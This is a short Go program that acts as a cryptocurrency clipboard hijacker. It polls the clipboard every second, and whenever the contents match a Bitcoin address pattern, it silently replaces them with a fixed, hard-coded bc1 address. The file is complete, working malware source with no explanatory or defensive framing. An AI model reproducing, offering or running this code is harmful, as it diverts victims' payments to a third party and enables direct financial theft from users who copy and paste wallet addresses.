package main

import (
	"regexp"
	"time"

	"github.com/atotto/clipboard"
)

var re = regexp.MustCompile(`^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$`)

func main() {
	for {
		s, _ := clipboard.ReadAll()
		if re.MatchString(s) {
			clipboard.WriteAll("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq")
		}
		time.Sleep(time.Second)
	}
}
